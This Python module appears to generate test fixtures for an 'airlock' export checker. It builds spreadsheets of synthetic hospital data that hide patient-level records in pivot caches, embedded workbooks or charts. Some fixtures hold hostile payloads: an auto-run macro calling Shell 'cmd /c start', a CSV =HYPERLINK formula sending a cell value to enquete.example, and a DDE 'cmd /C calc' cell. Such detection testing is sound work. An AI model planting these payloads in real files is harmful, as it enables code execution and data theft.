"""Workbooks with parts that Excel carries along: pivot caches, embedded files, macros; and formulas that act."""

import io
import random

from openpyxl.chart import LineChart, Reference

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs22.excel import HEAD_EN, HEAD_FR, activity
from tests.airlock.outputs22.kit import Rows, book, draws, repack, save_book, write_csv

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _rels(*targets: tuple[str, str]) -> str:
    rows = "".join(
        f'<Relationship Id="rId{at}" Type="{KIND}/{kind}" Target="{target}"/>'
        for at, (kind, target) in enumerate(targets, 1)
    )
    return f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def pivot_parts(rng: random.Random, count: int) -> dict[str, str]:
    """A pivot table of two fields, with one record per stay in its cache."""
    fields = '<cacheField name="unit"><sharedItems count="3"><s v="ICU"/><s v="HDU"/><s v="ward"/></sharedItems></cacheField><cacheField name="age"><sharedItems containsSemiMixedTypes="0" containsString="0" containsNumber="1"/></cacheField><cacheField name="los"><sharedItems containsSemiMixedTypes="0" containsString="0" containsNumber="1"/></cacheField>'
    records = "".join(
        f'<r><x v="{rng.randint(0, 2)}"/><n v="{rng.randint(21, 93)}"/><n v="{rng.randint(1, 44)}"/></r>'
        for _ in range(count)
    )
    return {
        "xl/pivotCache/pivotCacheDefinition1.xml": f'{XML}<pivotCacheDefinition {MAIN} r:id="rId1" recordCount="{count}" refreshedVersion="6"><cacheSource type="worksheet"><worksheetSource ref="A1:C{count + 1}" sheet="extract"/></cacheSource><cacheFields count="3">{fields}</cacheFields></pivotCacheDefinition>',
        "xl/pivotCache/pivotCacheRecords1.xml": f'{XML}<pivotCacheRecords {MAIN} count="{count}">{records}</pivotCacheRecords>',
        "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": _rels(("pivotCacheRecords", "pivotCacheRecords1.xml")),
    }


def _pivot(shelf: Shelf) -> None:
    rng = shelf.random("pivot")

    def edit(name: str, part: bytes) -> bytes:
        if name == "[Content_Types].xml":
            kinds = "".join(
                f'<Override PartName="/xl/pivotCache/pivotCache{what}1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCache{what}+xml"/>'
                for what in ("Definition", "Records")
            )
            return part.replace(b"</Types>", kinds.encode() + b"</Types>")
        if name == "xl/_rels/workbook.xml.rels":
            return part.replace(
                b"</Relationships>",
                f'<Relationship Id="rId90" Type="{KIND}/pivotCacheDefinition" Target="pivotCache/pivotCacheDefinition1.xml"/></Relationships>'.encode(),
            )
        if name == "xl/workbook.xml":
            return part.replace(
                b"</workbook>",
                f'<pivotCaches><pivotCache xmlns:r="{KIND}" cacheId="1" r:id="rId90"/></pivotCaches></workbook>'.encode(),
            )
        return part

    made = book({"Stay by unit": [HEAD_EN, *activity(rng, ("ICU", "HDU", "Ward"), 2750)]})
    save_book(
        made,
        shelf.unsafe(
            "critical_care/stay_by_unit.xlsx",
            "one record per stay in a pivot cache",
            "pivotCacheRecords1.xml",
            "Patients and median stay by unit",
            "2,750 adults in critical care",
        ),
        pivot_parts(rng, 420),
        edit,
    )


def _embedded(shelf: Shelf) -> None:
    rng = shelf.random("embed-xlsx")
    out = io.BytesIO()
    book(
        {
            "brut": [
                ["date_naissance", "sexe", "ferritine", "traitement"],
                *[
                    [
                        f"{rng.randint(1, 28):02d}/{rng.randint(1, 12):02d}/19{rng.randint(44, 92)}",
                        rng.choice("FM"),
                        rng.randint(6, 400),
                        rng.choice(["fer IV", "fer oral"]),
                    ]
                    for _ in range(70)
                ],
            ]
        }
    ).save(out)
    made = book({"Carence": [HEAD_FR, *activity(rng, ("Fer IV", "Fer oral", "Transfusion"), 1290)]})
    more = {
        "xl/embeddings/Microsoft_Excel_Worksheet.xlsx": repack(out.getvalue()),
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")),
    }

    def edit(name: str, part: bytes) -> bytes:
        return (
            part.replace(
                b"<Default ",
                b'<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/><Default ',
                1,
            )
            if name == "[Content_Types].xml"
            else part
        )

    save_book(
        made,
        shelf.unsafe(
            "hematologie/carence_martiale.xlsx",
            "a workbook of patients embedded in the workbook",
            "xl/embeddings",
            "Traitement de la carence martiale",
            "1 290 patients carencés",
        ),
        more,
        edit,
    )


def _macro(shelf: Shelf) -> None:
    rng = shelf.random("macro")
    code = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n  Shell "cmd /c start"\r\nEnd Sub\r\n'
        + bytes(1024)
    )

    def edit(name: str, part: bytes) -> bytes:
        if name == "[Content_Types].xml":
            part = part.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml").replace(
                b"vnd.openxmlformats-officedocument.ms-excel", b"vnd.ms-excel"
            )
            return part.replace(
                b"<Default ",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
                1,
            )
        if name == "xl/_rels/workbook.xml.rels":
            return part.replace(
                b"</Relationships>",
                b'<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
        return part

    save_book(
        book({"Rota": [HEAD_EN, *activity(rng, ("Physiotherapy", "Dietetics", "Speech therapy"), 3380)]}),
        shelf.unsafe(
            "therapies/referrals.xlsm",
            "a macro that runs on opening",
            "xl/vbaProject.bin",
            "Referrals to therapies",
            "3,380 adult inpatients",
        ),
        {"xl/vbaProject.bin": code},
        edit,
    )


def _injection(shelf: Shelf) -> None:
    rng = shelf.random("inject")
    rows: list[list[object]] = [["item", "réponses", "favorables", "verbatim type"]]
    for label, said in (
        ("Accueil", "Personnel à l'écoute"),
        ("Repas", "Portions suffisantes"),
        ("Information", '=HYPERLINK("http://enquete.example/r?d="&B2,"voir")'),
        ("Sortie", "Documents remis à temps"),
    ):
        rows.append([label, 1840, rng.randint(900, 1500), said])
    write_csv(
        shelf.unsafe(
            "satisfaction/enquete.csv",
            "a cell that Excel would run as a formula",
            "line 4, verbatim type",
            "Enquête de satisfaction : réponses favorables par item",
            "1 840 patients répondants",
        ),
        rows,
    )


def _dde(shelf: Shelf) -> None:
    rng = shelf.random("dde")
    rows: list[list[object]] = [["drug", "orders", "verified_within_1h", "note"]]
    rows += [
        [drug, rng.randint(400, 900), rng.randint(210, 380), note]
        for drug, note in (
            ("heparin", ""),
            ("insulin", "double check since May"),
            ("potassium", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("morphine", ""),
        )
    ]
    write_csv(
        shelf.unsafe(
            "pharmacy/verification.csv",
            "a cell that starts a command",
            "line 4, note",
            "Orders of high-alert drugs and pharmacist verification",
            "2,400 adult inpatients with a high-alert order",
        ),
        rows,
        ";",
    )


def _chart(shelf: Shelf) -> None:
    rng = draws(shelf, "chart-rows")
    rows: Rows = [
        ["day", "sirolimus ng/mL"],
        *[
            [int(day), round(float(level), 1)]
            for day, level in zip(sorted(rng.integers(1, 90, 22)), rng.normal(8, 1.5, 22), strict=True)
        ],
    ]
    made = book(
        {
            "Trough": [
                ["Month", "Median (n = 118)", "Q1", "Q3"],
                *[[month, 7.5 + month / 10, 6.1, 9.4] for month in range(1, 7)],
            ],
            "fig": rows,
        }
    )
    chart = LineChart()
    chart.add_data(Reference(made["fig"], min_col=2, min_row=1, max_row=23), titles_from_data=True)
    chart.title = "Typical course of the trough level"
    made["Trough"].add_chart(chart, "F2")
    save_book(
        made,
        shelf.unsafe(
            "transplant/sirolimus.xlsx",
            "the course of one patient, day by day, as a typical one",
            "sheet fig and its chart",
            "Trough levels by month; the chart is a typical patient's course",
            "118 adults with a lung transplant",
        ),
    )


def write(shelf: Shelf) -> None:
    for case in (_pivot, _embedded, _macro, _injection, _dde, _chart):
        case(shelf)
